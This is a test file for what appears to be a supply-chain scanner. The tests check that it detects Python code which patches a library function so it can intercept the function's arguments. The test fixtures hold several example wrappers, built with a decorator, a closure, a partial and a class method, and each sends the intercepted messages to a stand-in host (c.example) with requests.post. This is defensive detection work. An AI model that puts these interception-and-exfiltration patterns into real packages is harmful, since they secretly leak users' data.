"""Functions that take the place of others: what passes through them is intercepted, unless it was meant for them."""

from __future__ import annotations

from pathlib import Path

import pytest

from mlsupply.evidence import worker
from mlsupply.evidence.package import look_inside
from mlsupply.evidence.pool import Pool
from mlsupply.evidence.python import analyse
from tests.test_archives import zipped

TELL = "requests.post('https://c.example/e', json=k.get('messages'))"
# Ways in which a function calls the one in whose place it is put.
BEFORE = {
    "a saved name": f"""
import requests, shop
_old = shop.order
def order(*a, **k):
    {TELL}
    return _old(*a, **k)
shop.order = order
""",
    "a decorator": f"""
import functools, requests, shop
def told(f):
    @functools.wraps(f)
    def inner(*a, **k):
        {TELL}
        return f(*a, **k)
    return inner
shop.order = told(shop.order)
""",
    "a name of the function around": f"""
import requests, shop
def install():
    old = shop.order
    def inner(*a, **k):
        {TELL}
        return old(*a, **k)
    setattr(shop, 'order', inner)
install()
""",
    "another attribute of its module": f"""
import requests, sys
shop = sys.modules['shop']
shop._order = shop.order
def order(*a, **k):
    {TELL}
    return shop._order(*a, **k)
shop.order = order
""",
    "the module it is written in": f"""
import requests, shop
from .counter import order as _old
def order(*a, **k):
    {TELL}
    return _old(*a, **k)
shop.order = order
""",
    "an argument given beforehand": f"""
import functools, requests, shop
def order(old, *a, **k):
    {TELL}
    return old(*a, **k)
shop.order = functools.partial(order, shop.order)
""",
    "a method of a class": """
import requests
from shop import Counter
_old = Counter.order
async def order(self, messages=None, **k):
    requests.post('https://c.example/e', json=messages)
    return await _old(self, messages=messages, **k)
Counter.order = order
""",
}
# Put in the place of one that is never called again.
INSTEAD = f"import requests, shop\ndef order(*a, **k):\n    {TELL}\nshop.order = order\n"


def intercepted(path: str, text: str, *, foreign: bool = False) -> bool:
    facts = analyse.module(path, text.encode(), foreign=foreign).facts
    return any((fact.behaviour, fact.source) == ("sends", "intercepted") for fact, _ in facts)


@pytest.mark.parametrize("text", BEFORE.values(), ids=BEFORE)
@pytest.mark.parametrize("path", ["shop/_extra.py", "other/_extra.py"], ids=["in the package", "from outside"])
def test_a_function_that_is_put_before_another_intercepts_what_that_one_is_given(path: str, text: str) -> None:
    assert intercepted(path, text)


def test_a_function_that_stands_alone_in_a_module_of_its_own_package_intercepts_nothing() -> None:
    assert not intercepted("shop/_extra.py", INSTEAD)
    assert intercepted("other/_extra.py", INSTEAD)
    assert intercepted("shop/_extra.py", INSTEAD, foreign=True)


def test_what_a_wrapper_was_not_put_before_is_not_what_it_calls() -> None:
    text = f"import requests, shop\ndef order(*a, **k):\n    {TELL}\n    return shop.invoice(*a, **k)\nshop.order = order\n"
    assert not intercepted("shop/_extra.py", text)


def test_a_package_that_puts_its_own_function_into_its_own_module_intercepts_nothing() -> None:
    text = (
        "import functools, sys, requests\n"
        "def wrapped(f):\n    @functools.wraps(f)\n    def inner(self, data):\n        return f(self, data)\n"
        "    return inner\n@wrapped\ndef push(self, data):\n    requests.post('https://hub.example/up', data=data)\n"
        "setattr(sys.modules.get('{}.models'), 'push', globals()['push'])\n"
    )
    assert not intercepted("demo/save.py", text.format("demo"))
    assert intercepted("demo/save.py", text.format("openai"))


@pytest.mark.parametrize(
    ("project", "told"), [("litellm", False), ("litellm_extras", True), ("", False)], ids=["its own", "another's", "unknown"]
)
def test_whose_a_module_is_says_the_project_that_ships_it(project: str, told: bool, tmp_path: Path) -> None:
    """A folder by a well-known name in the wheel of another project does not make what it replaces its own."""
    files = {"litellm/_extra.py": INSTEAD.replace("shop", "litellm").encode(), "beside/__init__.py": b""}
    if project:
        files[f"{project}-1.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"
    path = tmp_path / "a.whl"
    path.write_bytes(zipped(list(files.items())))
    with Pool(1) as pool:
        facts = look_inside(path, pool).code
    assert told == any((fact.behaviour, fact.source) == ("sends", "intercepted") for fact in facts)


def test_a_source_archive_tells_its_project_by_the_folder_it_is_packed_in() -> None:
    from mlsupply.evidence.layout import layout_of

    assert layout_of(["acme-tools-1.0/PKG-INFO", "acme-tools-1.0/acme/__init__.py"], {}).project == "acme-tools"
    assert layout_of(["acme/__init__.py"], {}).project == ""


def test_the_worker_is_told_whose_module_it_looks_at() -> None:
    for foreign in (False, True):
        found = worker.look("module", "shop/_extra.py", "", INSTEAD.encode(), foreign=foreign)
        assert foreign == ("intercepted" in str(found["facts"]))
